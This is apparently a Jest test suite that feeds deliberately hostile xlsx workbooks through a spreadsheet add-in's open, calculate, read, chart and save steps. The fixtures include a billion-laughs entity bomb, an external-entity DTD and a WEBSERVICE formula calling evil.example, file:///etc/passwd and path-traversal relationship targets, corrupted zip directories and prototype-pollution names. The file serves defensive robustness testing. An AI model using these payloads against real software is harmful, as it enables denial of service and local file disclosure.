import { strToU8, unzipSync, zipSync } from "fflate";
import { insertCharts } from "../../src/actions/charts/insertCharts";
import { insertOverview } from "../../src/actions/charts/insertOverview";
import { readWorkbook } from "../../src/actions/reading/readWorkbook";
import { openWorkbook } from "../../src/host/package/workbook/openWorkbook";
import { saveWorkbook } from "../../src/host/package/workbook/saveWorkbook";
import { attachCalculation } from "../../src/host/calc/attachCalculation";
import { swedishTexts } from "../../src/i18n/swedishTexts";
import { withParts, withText } from "../host/support/zip";
import { plainWorkbook } from "./support/actionCases";
import { MatrixHost } from "./support/matrixHost";

/**
 * Files made to harm, through everything that happens to a file: opened, computed, read, charts put in, saved and opened
 * again. Each is refused with one of five codes, or read; nothing is thrown, no memory is eaten, nobody's prototype grows.
 */
jest.setTimeout(120_000);

const excel = new MatrixHost();
afterAll(() => excel.stop());

const sheetPart = "xl/worksheets/sheet1.xml";
const usual = saveWorkbook(plainWorkbook());
const text = (name: string): string => new TextDecoder().decode(unzipSync(usual)[name]);
const cellsOf = (xml: string): Uint8Array =>
  withText(usual, sheetPart, /<\/sheetData>/, `${xml}</sheetData>`);
/** A row below the data. */
const row = (cells: string): Uint8Array => cellsOf(`<row r="30">${cells}</row>`);
const formula = (content: string): Uint8Array => row(`<c r="A30"><f>${content}</f></c>`);
const names = (content: string): Uint8Array =>
  withText(
    withText(usual, "xl/workbook.xml", "</sheets>", `</sheets><definedNames>${content}</definedNames>`),
    sheetPart,
    /<\/sheetData>/,
    '<row r="30"><c r="A30"><f>a_1</f></c></row></sheetData>',
  );
const relationships = (content: string): Uint8Array =>
  withParts(usual, {
    "xl/worksheets/_rels/sheet1.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${content}</Relationships>`,
  });
const type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** The bytes of the directory of a zip changed in place. */
function patched(
  bytes: Uint8Array,
  change: (view: DataView, entries: readonly number[]) => void,
): Uint8Array {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  const entries: number[] = [];
  for (let place = 0; place + 46 < copy.length; place++)
    if (view.getUint32(place, true) === 0x02014b50) entries.push(place);
  change(view, entries);
  return copy;
}

const utf16 = (xml: string, big: boolean): Uint8Array => {
  const units = [...`\ufeff${xml}`].flatMap((letter) => {
    const code = letter.charCodeAt(0);
    return big ? [code >> 8, code & 255] : [code & 255, code >> 8];
  });
  return Uint8Array.from(units);
};

const renamed = (to: string): Uint8Array => {
  const parts = unzipSync(usual);
  return zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, content]) => [name === sheetPart ? to : name, content]),
    ),
  );
};

type Expected = "ok" | "refused" | "either";

const attacks: readonly (readonly [string, () => Uint8Array, Expected])[] = [
  [
    "two entries over the same bytes",
    () =>
      patched(usual, (view, [first, second]) =>
        view.setUint32(second! + 42, view.getUint32(first! + 42, true), true),
      ),
    "refused",
  ],
  [
    "an entry that begins inside another",
    () =>
      patched(usual, (view, [, second]) =>
        view.setUint32(second! + 42, view.getUint32(second! + 42, true) + 7, true),
      ),
    "refused",
  ],
  [
    "a directory with 65,535 entries declared",
    () => patched(usual, (view) => view.setUint16(view.byteLength - 12, 65_534, true)),
    "refused",
  ],
  [
    "part names that differ by case",
    () => withParts(usual, { "xl/WORKSHEETS/Sheet1.xml": text(sheetPart) }),
    "refused",
  ],
  ["a part name spelt with other letters", () => renamed("xl/worksheets/SHEET1.xml"), "either"],
  [
    "a declared size of the whole sheet",
    () => withText(usual, sheetPart, /<sheetData>/, '<dimension ref="A1:XFD1048576"/><sheetData>'),
    "either",
  ],
  [
    "a billion laughs",
    () =>
      withParts(usual, {
        [sheetPart]: `<!DOCTYPE a [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, i) => `<!ENTITY a${i} "${`&a${i - 1 < 0 ? "" : i - 1};`.repeat(10)}">`).join("")}]>${text(sheetPart).replace("<sheetData>", "<sheetData>&a19;")}`,
      }),
    "refused",
  ],
  [
    "an external entity",
    () =>
      withParts(usual, {
        "xl/workbook.xml": `<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">${text("xl/workbook.xml").replace(/<\?xml[^>]*>/, "")}`,
      }),
    "refused",
  ],
  ["shared strings out of range", () => row('<c r="A30" t="s"><v>99999999</v></c>'), "refused"],
  [
    "a shared string that is no number",
    () => row('<c r="A30" t="s"><v>-1</v></c><c r="B30" t="s"><v>1e9</v></c>'),
    "refused",
  ],
  [
    "numbers that are none",
    () =>
      row(
        ["NaN", "1e999", "-1e999", "Infinity", "0x10", "1_000", "", "1,5", "--1", "9".repeat(400)]
          .map((v, i) => `<c r="${String.fromCharCode(65 + i)}30"><v>${v}</v></c>`)
          .join(""),
      ),
    "either",
  ],
  [
    "kinds of cells that are none",
    () =>
      row(
        '<c r="A30" t="zzz"><v>1</v></c><c r="B30" t="e"><v>#EVIL!</v></c><c r="C30" t="b"><v>7</v></c><c r="D30" t="d"><v>2024-99-99</v></c>',
      ),
    "either",
  ],
  ["a formula of 9,000 characters", () => formula(`1${"+1".repeat(4500)}`), "ok"],
  ["a thousand parentheses", () => formula(`${"(".repeat(1000)}1${")".repeat(1000)}`), "ok"],
  ["fifty thousand open parentheses", () => formula("(".repeat(50_000)), "ok"],
  ["functions nested five thousand deep", () => formula(`${"ABS(".repeat(5000)}1${")".repeat(5000)}`), "ok"],
  ["a string that does not end", () => formula(`"${"a".repeat(40_000)}`), "ok"],
  ["a formula over all cells", () => formula("SUM(A1:XFD1048576)+COUNTIF(1:1048576,A1:XFD1048576)"), "ok"],
  [
    "an array over all cells",
    () => row('<c r="A30"><f t="array" ref="A30:XFD1048576">ROW(A1:XFD1048576)</f></c>'),
    "either",
  ],
  ["a text that grows without end", () => formula('REPT(REPT(REPT("x",32767),32767),32767)'), "ok"],
  ["numbers from nowhere", () => formula("SEQUENCE(1048576,16384)"), "ok"],
  [
    "formulas in a circle",
    () =>
      row(
        '<c r="A30"><f>B30</f></c><c r="B30"><f>C30+1</f></c><c r="C30"><f>A30</f></c><c r="D30"><f>D30</f></c>',
      ),
    "ok",
  ],
  [
    "names in a circle",
    () => names('<definedName name="a_1">b_1+1</definedName><definedName name="b_1">a_1</definedName>'),
    "ok",
  ],
  ["a name of itself", () => names('<definedName name="a_1">a_1</definedName>'), "ok"],
  [
    "names that double",
    () =>
      names(
        Array.from(
          { length: 40 },
          (_, i) => `<definedName name="a_${i + 1}">a_${i + 2}+a_${i + 2}</definedName>`,
        ).join(""),
      ),
    "ok",
  ],
  [
    "a name that fetches",
    () => names('<definedName name="a_1">WEBSERVICE("http://evil.example")</definedName>'),
    "ok",
  ],
  [
    "relationships in a circle",
    () =>
      relationships(
        `<Relationship Id="r1" Type="${type}/drawing" Target="/xl/worksheets/sheet1.xml"/><Relationship Id="r2" Type="${type}/table" Target="sheet1.xml"/>`,
      ),
    "either",
  ],
  [
    "relationships to absolute and foreign places",
    () =>
      relationships(
        [
          "file:///etc/passwd",
          "http://evil.example/drawing.xml",
          "//evil/share/x.xml",
          "..\\..\\..\\windows\\x",
          "%2e%2e/%2e%2e/x",
        ]
          .map((target, i) => `<Relationship Id="r${i}" Type="${type}/drawing" Target="${target}"/>`)
          .join(""),
      ),
    "either",
  ],
  [
    "foreign places that are said to be within",
    () =>
      relationships(
        `<Relationship Id="r1" Type="${type}/drawing" Target="http://evil.example/d.xml" TargetMode="Internal"/>`,
      ),
    "either",
  ],
  [
    "a count of four billion styles",
    () => withText(usual, "xl/styles.xml", /<cellXfs[^>]*>/, '<cellXfs count="4294967295">'),
    "either",
  ],
  [
    "sixty thousand styles",
    () => withText(usual, "xl/styles.xml", /<\/cellXfs>/, `${"<xf/>".repeat(60_000)}</cellXfs>`),
    "either",
  ],
  [
    "columns from last to first and a billion wide",
    () =>
      withText(
        usual,
        sheetPart,
        /<sheetData>/,
        '<cols><col min="16384" max="1" width="1e308"/></cols><sheetData>',
      ),
    "either",
  ],
  [
    "a hundred thousand merged areas",
    () =>
      withText(
        usual,
        sheetPart,
        "</sheetData>",
        `</sheetData><mergeCells>${'<mergeCell ref="A100:XFD1048576"/>'.repeat(100_000)}</mergeCells>`,
      ),
    "either",
  ],
  [
    "a sheet in UTF-16, little end first",
    () => withParts(usual, { [sheetPart]: utf16(text(sheetPart).replace("UTF-8", "UTF-16"), false) }),
    "ok",
  ],
  [
    "a sheet in UTF-16, big end first",
    () => withParts(usual, { [sheetPart]: utf16(text(sheetPart).replace("UTF-8", "UTF-16"), true) }),
    "ok",
  ],
  [
    "a mark of byte order before everything",
    () =>
      withParts(
        usual,
        Object.fromEntries(
          Object.entries(unzipSync(usual))
            .filter(([name]) => /xml|rels/.test(name))
            .map(([name, content]) => [name, Uint8Array.from([0xef, 0xbb, 0xbf, ...content])]),
        ),
      ),
    "ok",
  ],
  [
    "bytes that are no UTF-8",
    () =>
      withParts(usual, {
        [sheetPart]: Uint8Array.from([
          ...strToU8(text(sheetPart).split("</sheetData>")[0]!),
          0xff,
          0xc0,
          0xaf,
        ]),
      }),
    "refused",
  ],
  ["a zero byte in a text", () => row('<c r="A30" t="inlineStr"><is><t>a\u0000b</t></is></c>'), "either"],
  [
    "names of prototypes in every place",
    () =>
      row(
        ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"]
          .map(
            (name, i) => `<c r="${String.fromCharCode(65 + i)}30" t="inlineStr"><is><t>${name}</t></is></c>`,
          )
          .join(""),
      ),
    "ok",
  ],
  [
    "a setting of prototypes",
    () => withText(usual, "xl/workbook.xml", /name="Anteckningar"/, 'name="constructor"'),
    "ok",
  ],
];

const before = Object.getOwnPropertyNames(Object.prototype).sort();

test.each(attacks)("%s", async (_, make, expected) => {
  const bytes = make();
  const held = process.memoryUsage();
  const result = openWorkbook(bytes);
  if (!result.ok) {
    expect(["damagedFile", "notWorkbook", "fileTooLarge"]).toContain(result.code);
    expect(["refused", "either"]).toContain(expected);
    return;
  }
  expect(["ok", "either"]).toContain(expected);
  attachCalculation(result.workbook);
  const host = excel.connect(result.workbook);
  const reading = await readWorkbook({ all: true });
  if (reading.ok) {
    for (const { message } of reading.problems)
      expect(swedishTexts.render(message)).not.toMatch(/undefined|NaN/);
    for (const { series } of reading.value.assessments)
      for (const { value } of series.points) expect(value === null || Number.isFinite(value)).toBe(true);
    const seriesIds = reading.value.assessments.map(({ series }) => series.id);
    if (seriesIds.length > 0) {
      await insertOverview({ sheets: reading.value.read });
      await insertCharts({ seriesIds, sheets: reading.value.read });
    }
  }
  await host.idle();
  expect(openWorkbook(saveWorkbook(result.workbook)).ok).toBe(true);
  const { heapUsed, arrayBuffers } = process.memoryUsage();
  expect(heapUsed + arrayBuffers - held.heapUsed - held.arrayBuffers).toBeLessThan(400_000_000);
  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(before);
});
